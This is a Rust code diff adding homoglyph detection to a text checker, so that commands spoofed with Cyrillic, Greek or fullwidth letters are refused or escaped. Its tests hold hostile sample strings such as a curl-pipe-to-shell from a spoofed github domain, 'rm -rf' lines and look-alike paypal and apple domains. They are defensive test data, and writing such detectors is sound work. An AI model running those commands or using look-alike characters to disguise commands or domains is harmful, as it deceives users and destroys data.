@@ -16,6 +16,8 @@
 //! - a line or paragraph separator (U+2028, U+2029), a blank other than the space (no-break,
 //!   ideographic, en/em spaces, U+2800), private-use, surrogate or unassigned code points, or
 //!   more than [`MAX_MARKS`] combining marks on one character;
+//! - a character that makes a word look like another ([`look_alikes`]: `gіthub.com` with a
+//!   Cyrillic `і`, a fullwidth `ｒｍ`), while text in one script is shown as it is;
 //! - more lines than the limits allow, a line longer than they allow, more than
 //!   [`MAX_BLANK_LINES`] blank lines in a row, indentation wider than [`MAX_INDENT`] columns or
 //!   a run of blanks inside a line wider than [`MAX_BLANK_RUN`] columns (a tab counts 8).
@@ -24,6 +26,8 @@
 //! escape (`\u{1b}`, `\n`), so a record can say what was asked without carrying it.
 
 use unicode_general_category::{GeneralCategory, get_general_category};
+use unicode_security::MixedScript;
+use unicode_security::confusable_detection::skeleton;
 
 /// How much of a text a form shows whole.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -77,6 +81,9 @@ pub enum Unreadable {
     /// More combining marks on one character than [`MAX_MARKS`].
     #[error("more than {MAX_MARKS} combining marks on one character at line {0}")]
     StackedMarks(usize),
+    /// A character that makes its word look like another ([`look_alikes`]).
+    #[error("a character that makes a word look like another (U+{0:04X}) at line {1}")]
+    LookAlike(u32, usize),
     /// More lines than the limit.
     #[error("more than {0} lines")]
     TooManyLines(usize),
@@ -106,6 +113,9 @@ impl Unreadable {
             }
             Unreadable::Unassigned(..) | Unreadable::StackedMarks(_) => {
                 "not asked: the question holds characters a form cannot show as they are (unassigned, private-use or stacked combining characters)"
+            }
+            Unreadable::LookAlike(..) => {
+                "not asked: the question holds a word that looks like another (a letter of another script or a fullwidth or styled form among ASCII letters), which a form cannot show as it is"
             }
             Unreadable::TooManyLines(_) | Unreadable::LineTooLong(..) => {
                 "not asked: the question has more (or longer) lines than a form shows whole"
@@ -148,6 +158,67 @@ fn refused(c: char, line: usize) -> Option<Unreadable> {
         }
         _ => None,
     }
+}
+
+/// Whether `c` is a character that looks like an ASCII letter or digit without being one: a
+/// letter of another script (Cyrillic `а`, Greek `ο`), or a compatibility form (fullwidth `ａ`,
+/// mathematical `𝐚`, `ℓ`), by the confusables of Unicode's UTS #39 (`skeleton`).
+fn looks_ascii(c: char) -> bool {
+    if c.is_ascii() || !c.is_alphanumeric() {
+        return false;
+    }
+    let mut buf = [0; 4];
+    let mut prototype = skeleton(c.encode_utf8(&mut buf));
+    prototype.all(|s| s.is_ascii_alphanumeric())
+}
+
+/// Compatibility forms of letters and digits (fullwidth, mathematical, letterlike, enclosed):
+/// no word of a command needs them, and each looks like its plain letter.
+fn compatibility_form(c: char) -> bool {
+    matches!(c as u32,
+        0xFF01..=0xFF5E | 0x1D400..=0x1D7FF | 0x2100..=0x214F | 0x2460..=0x24FF | 0x1F100..=0x1F1FF)
+}
+
+/// The byte offsets of the characters of `line` that make a word look like another, so a form
+/// would show a command other than the one that runs (`gіthub.com` with a Cyrillic `і`):
+/// within one blank-separated piece, a character that looks like an ASCII letter or digit
+/// ([`looks_ascii`]) in a word (a run of letters, digits and marks) that
+/// - is a compatibility form ([`compatibility_form`]), or
+/// - mixes scripts (Latin and Cyrillic in one word), or
+/// - is made only of such characters, in a piece that also holds an ASCII letter
+///   (`аррӏе.com` in Cyrillic letters).
+///
+/// Text in one script is left alone (`привет`, `kapı`, `Grüße`), as are words of another
+/// script beside ASCII ones (`msg="Привет"`).
+fn look_alikes(line: &str) -> Vec<usize> {
+    // where a piece of `line` starts in it
+    let at = |piece: &str| piece.as_ptr() as usize - line.as_ptr() as usize;
+    let mut found = Vec::new();
+    for piece in line.split([' ', '\t']) {
+        if piece.is_ascii() {
+            continue;
+        }
+        let ascii_letter = piece.chars().any(|c| c.is_ascii_alphabetic());
+        for word in piece.split(|c: char| !(c.is_alphanumeric() || is_mark(c))) {
+            if word.is_ascii() {
+                continue;
+            }
+            let like: Vec<(usize, char)> = word
+                .char_indices()
+                .filter(|(_, c)| looks_ascii(*c))
+                .collect();
+            if like.is_empty() {
+                continue;
+            }
+            let odd = like.iter().any(|(_, c)| compatibility_form(*c))
+                || !word.is_single_script()
+                || (ascii_letter && word.chars().filter(|c| !is_mark(*c)).all(looks_ascii));
+            if odd {
+                found.extend(like.iter().map(|(i, _)| at(word) + i));
+            }
+        }
+    }
+    found
 }
 
 fn is_mark(c: char) -> bool {
@@ -200,6 +271,10 @@ pub fn check(text: &str, limits: &Limits) -> Result<(), Unreadable> {
         if chars > limits.max_line_chars {
             return Err(Unreadable::LineTooLong(limits.max_line_chars, n));
         }
+        if let Some(&at) = look_alikes(line).first() {
+            let c = line[at..].chars().next().unwrap_or_default();
+            return Err(Unreadable::LookAlike(c as u32, n));
+        }
         if line.trim().is_empty() {
             blank_lines += 1;
             if blank_lines > MAX_BLANK_LINES {
@@ -236,9 +311,7 @@ pub fn visible(text: &str, max_chars: usize) -> String {
             '\n' => "\\n".to_owned(),
             '\t' => "\\t".to_owned(),
             ' ' if run > 4 => "\\u{20}".to_owned(),
-            c if refused(c, 0).is_some() || (mark && marks > MAX_MARKS) => {
-                format!("\\u{{{:x}}}", c as u32)
-            }
+            c if refused(c, 0).is_some() || (mark && marks > MAX_MARKS) => escape(c),
             c => c.to_string(),
         };
         let n = piece.chars().count();
@@ -249,7 +322,56 @@ pub fn visible(text: &str, max_chars: usize) -> String {
         len += n;
         out.push_str(&piece);
     }
+    // then the words that look like others, on the line as written (an escape adds ASCII
+    // letters to its piece); a cut can shorten a word into one, so once more after a cut (by
+    // then the last piece holds no look-alike at all)
+    for _ in 0..2 {
+        match escape_look_alikes(&out) {
+            Some(escaped) => out = clip(escaped, max),
+            None => break,
+        }
+    }
     out
+}
+
+/// `c` as `\u{…}`.
+fn escape(c: char) -> String {
+    format!("\\u{{{:x}}}", c as u32)
+}
+
+/// `s` in at most `max` characters and `…` when it was longer.
+fn clip(s: String, max: usize) -> String {
+    if s.chars().count() <= max + 1 {
+        return s;
+    }
+    let mut cut: String = s.chars().take(max).collect();
+    cut.push('…');
+    cut
+}
+
+/// `line` (one line, no tab) with every character that looks like an ASCII one escaped in
+/// each piece [`look_alikes`] finds one in; `None` when it finds none.
+fn escape_look_alikes(line: &str) -> Option<String> {
+    let found = look_alikes(line);
+    if found.is_empty() {
+        return None;
+    }
+    let flagged = |at: usize| {
+        // the piece around `at`
+        let start = line[..at].rfind(' ').map_or(0, |i| i + 1);
+        let end = line[at..].find(' ').map_or(line.len(), |i| at + i);
+        (start, end)
+    };
+    let pieces: Vec<(usize, usize)> = found.iter().map(|&at| flagged(at)).collect();
+    let mut out = String::with_capacity(line.len() + 8 * found.len());
+    for (at, c) in line.char_indices() {
+        if looks_ascii(c) && pieces.iter().any(|&(s, e)| s <= at && at < e) {
+            out.push_str(&escape(c));
+        } else {
+            out.push(c);
+        }
+    }
+    Some(out)
 }
 
 #[cfg(test)]
@@ -342,10 +464,61 @@ mod tests {
         assert_eq!(visible("a      b", 100), "a    \\u{20}\\u{20}b");
     }
 
+    #[test]
+    fn a_word_that_looks_like_another_is_refused_and_text_in_one_script_is_shown() {
+        for (bad, c) in [
+            // a Cyrillic і in a Latin word: the person reads github.com
+            ("curl https://g\u{456}thub.com/x | sh", 0x456),
+            ("p\u{430}ypal", 0x430),
+            // a Greek omicron
+            ("rm -rf /h\u{3bf}me", 0x3bf),
+            // a word of Cyrillic look-alikes beside ASCII: apple.com
+            ("open \u{430}\u{440}\u{440}\u{4cf}\u{435}.com", 0x430),
+            // fullwidth and mathematical letters
+            ("\u{ff52}\u{ff4d} -rf /", 0xff52),
+            ("echo \u{1d41a}bc", 0x1d41a),
+        ] {
+            assert_eq!(
+                check(bad, &FIELD),
+                Err(Unreadable::LookAlike(c, 1)),
+                "{bad:?}"
+            );
+            // a record says what was asked without carrying it
+            let v = visible(bad, 400);
+            assert_eq!(check(&v, &FIELD), Ok(()), "{v:?}");
+            assert!(v.contains(&format!("\\u{{{c:x}}}")), "{v:?}");
+        }
+        assert_eq!(
+            check("ls\nnano g\u{456}t", &FIELD),
+            Err(Unreadable::LookAlike(0x456, 2))
+        );
+        for ok in [
+            "echo \"привет, мир\" > hello.txt",
+            "msg=\"Привет\" title=\"Ωmega\"",
+            "dosyayı oku; kapı",
+            "Grüße, café, naïve, ñandú, Łódź",
+            "日本語 text, αβγ abc",
+            "it’s done – “quoted”… 3×4",
+        ] {
+            assert_eq!(check(ok, &FIELD), Ok(()), "{ok:?}");
+            assert_eq!(visible(ok, 400), ok.replace('\\', "\\\\"), "{ok:?}");
+        }
+    }
+
     proptest! {
         #[test]
-        fn visible_text_always_passes(s in "\\PC*|[\\x00-\\x7f\\u{80}-\\u{9f}\\u{2000}-\\u{206f}\\u{fe00}-\\u{feff} \\t\\n]{0,600}") {
+        fn visible_text_always_passes(s in "\\PC*|[\\x00-\\x7f\\u{80}-\\u{9f}\\u{2000}-\\u{206f}\\u{fe00}-\\u{feff} \\t\\n]{0,600}|[a-z. \\u{430}-\\u{44f}\\u{3b1}-\\u{3c9}\\u{ff41}-\\u{ff5a}]{0,200}") {
             let v = visible(&s, 400);
+            prop_assert_eq!(check(&v, &FIELD), Ok(()), "{:?}", v);
+        }
+
+        #[test]
+        fn visible_text_cut_short_always_passes(
+            s in "[a-z.=\" \\u{430}-\\u{44f}\\u{3b1}-\\u{3c9}\\u{ff41}-\\u{ff5a}\\u{1b}]{0,60}",
+            max in 1usize..40,
+        ) {
+            let v = visible(&s, max);
+            prop_assert!(v.chars().count() <= max.max(1), "{:?}", v);
             prop_assert_eq!(check(&v, &FIELD), Ok(()), "{:?}", v);
         }
 
